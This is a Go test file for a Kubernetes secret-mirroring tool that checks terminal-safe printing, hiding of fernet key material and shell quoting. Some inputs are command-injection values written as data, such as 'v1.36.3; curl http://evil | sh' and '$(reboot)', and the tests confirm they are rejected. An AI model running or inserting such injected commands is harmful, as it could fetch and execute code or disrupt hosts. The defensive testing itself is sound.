package mirror

import (
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"net/url"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
)

func TestPrintable(t *testing.T) {
	for text, want := range map[string]string{
		"":                         "",
		"plain, Zürich":            "plain, Zürich",
		"\x1b[2J\x1b[H":            "?[2J?[H",
		"a\nb\tc\x00":              "a?b?c?",
		"\u202eabc\u2066\u200b":    "?abc??",
		"\xff\xfe":                 "??",
		strings.Repeat("é", 1_000): strings.Repeat("é", 400) + "…",
	} {
		if got := Printable(text); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}

// The names in a certificate can contain any characters, so they are not shown.
func TestCertificateIsShownPrintably(t *testing.T) {
	certificate := &x509.Certificate{DNSNames: []string{"\x1b[2J\x1b[32mSynced"}}
	err := &url.Error{Op: "Get", URL: "https://dfw", Err: &tls.CertificateVerificationError{
		UnverifiedCertificates: []*x509.Certificate{certificate}, Err: x509.HostnameError{Certificate: certificate, Host: "dfw.example"},
	}}
	d := FailureOf(err)
	if d.State != StateUnreachable || strings.ContainsAny(d.Detail, "\x1b\n") || strings.Contains(d.Detail, "Synced") || !strings.Contains(d.Detail, "dfw.example") {
		t.Errorf("%s: %q", d.State, d.Detail)
	}
}

// The description of a copy contains no part of a key of the source or the copy.
func TestNoKeyIsShownOfACopy(t *testing.T) {
	const ours = "h8Wb_qzT0-yVn3JcXk5RrPdLsA2mFgEu7oYiQ4wZ1C8="
	const theirs = "PqLmZx0192837465AbCdEfGhIjKlMnOpQrStUvWxYz8="
	source := &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Name: "keystone-fernet-keys", Namespace: "openstack", UID: homeUID, ResourceVersion: "9", Annotations: mark("sjc", 3, homeUID)},
		Type:       corev1.SecretTypeOpaque, Data: map[string][]byte{"0": []byte(ours), "1": []byte(theirs)},
	}
	src := ReadSource(source)
	for _, region := range []string{ours[:43], ours[6:20], theirs[:43], strings.ToUpper(ours[:12]), "x." + ours[10:16]} {
		for term, reason := range map[int]Reason{9: ReasonOwned, 2: ReasonSuperseded} {
			c := ReadCopy(Place{"dfw", "openstack", "keystone-fernet-keys", ""}, &corev1.Secret{
				ObjectMeta: metav1.ObjectMeta{UID: "far", ResourceVersion: "1", Annotations: stamp(region, term, farUID, "1", ""),
					ManagedFields: []metav1.ManagedFieldsEntry{{Manager: region, Time: &metav1.Time{}}}},
				Type: corev1.SecretTypeOpaque, Data: map[string][]byte{"1": []byte(theirs)},
			})
			d := Decide(src, c, false)
			if d.Reason != reason {
				t.Fatalf("%s: %s, want %s", region, d.Reason, reason)
			}
			for what, text := range map[string]string{"detail": d.Detail, "owner": c.Whose(src), "writer": c.LastWriter(src)} {
				for i := range len(region) - 5 {
					if run := region[i : i+6]; strings.Contains(text, run) && (strings.Contains(strings.ToLower(ours+theirs), strings.ToLower(run))) {
						t.Errorf("%s shows %q: %s", what, run, text)
					}
				}
			}
		}
	}
	// The same applies if the source is a copy.
	source.Annotations = stamp(ours[6:20], 4, farUID, "1", "")
	st := ReadSource(source).Status("openstack", "keystone-fernet-keys", "")
	if strings.Contains(st.Detail+st.Region, ours[6:12]) {
		t.Errorf("a standby shows %+v", st)
	}
}

// A time that JSON does not support must not break the status document.
func TestTimesBeyondJSON(t *testing.T) {
	for _, year := range []int{-1, 0, 1, 9999, 10_000, 292_277_022_365} {
		at := metav1.NewTime(time.Date(year, 1, 1, 0, 0, 0, 0, time.UTC))
		c := ReadCopy(Place{"dfw", "openstack", "keystone-fernet-keys", ""}, &corev1.Secret{
			ObjectMeta: metav1.ObjectMeta{ManagedFields: []metav1.ManagedFieldsEntry{{Manager: FieldManager, Time: &at}}},
		})
		if _, err := json.Marshal(c.Status(Source{}, Decision{})); err != nil || (c.HeldSince() != nil) != (year == 1 || year == 9999) {
			t.Errorf("year %d: %v, held since %v", year, err, c.HeldSince())
		}
	}
}

func TestQuote(t *testing.T) {
	for word, want := range map[string]string{
		"dfw": "dfw", "admin@dfw:6443": "admin@dfw:6443", "": "''", "a b": "'a b'", "$(x)": "'$(x)'", "it's": `'it'\''s'`, "a\nb": "'a?b'",
	} {
		if got := Quote(word); got != want {
			t.Errorf("%q becomes %s, want %s", word, got, want)
		}
	}
}

func TestTextOfServers(t *testing.T) {
	const key = "Vq3xL0_tYd8Kf2ZrW7bN-c5HsPm1JgQe9UaXi6ToRyA="
	const name, address, hidden = "(unusual name)", "(unusual address)", "…"
	for what, c := range map[string]struct {
		show func(string) string
		want map[string]string
	}{
		"Version": {Version, map[string]string{
			"v1.36.3": "v1.36.3", "v1.30.4+k3s1": "v1.30.4+k3s1", "v1.29.3-gke.1282000": "v1.29.3-gke.1282000", "v1.31.0-alpha.3.120+abcdef12345678": "v1.31.0-alpha.3.120+abcdef12345678",
			"": "unknown version", key: "unknown version", "v1.36.3; curl http://evil | sh": "unknown version", "v1.36.3-" + key: "unknown version", "v1.36.3\n": "unknown version",
		}},
		"Name": {Name, map[string]string{
			"keystone-fernet-rotate-manual-20261130-101112": "keystone-fernet-rotate-manual-20261130-101112", "system:serviceaccount:openstack:fernetcast-sjc": "system:serviceaccount:openstack:fernetcast-sjc",
			"pods/exec": "pods/exec", "*": "*", "*/scale": "*/scale", "admin@example.com": "admin@example.com", "kubernetes.io/tls": "kubernetes.io/tls",
			"": name, key: name, "a b": name, "a;b": name, "$(reboot)": name, "-rf": name, "a\x1b[2J": name, strings.Repeat("a", 43): hidden, "x." + strings.Repeat("a1", 22): "x.…",
		}},
		"Address": {Address, map[string]string{
			"https://dfw.example.com:6443": "https://dfw.example.com:6443", "https://[::1]:6443/a/b": "https://[::1]:6443/a/b", "https://10.0.0.9": "https://10.0.0.9",
			"https://user:hunter2@dfw?a=b#c": "https://dfw", "https://$(reboot)/": address, "https://dfw/;curl": address, "kubernetes": address, "https://" + key: address,
		}},
		"Hide": {Hide, map[string]string{
			"a\nb\t": "a\nb?", "key " + key + " ": "key … ", key[:43]: hidden, strings.Repeat("0f", 32): hidden, strings.ReplaceAll(key, "_", "/"): hidden, "ServiceAccount fernetcast-sjc": "ServiceAccount fernetcast-sjc",
		}},
		"Printable": {Printable, map[string]string{strings.Repeat("x ", 190) + key + key: strings.Repeat("x ", 190) + hidden + hidden}},
	} {
		for text, want := range c.want {
			if got := c.show(text); got != want {
				t.Errorf("%s of %q is %q, want %q", what, text, got, want)
			}
		}
	}
}
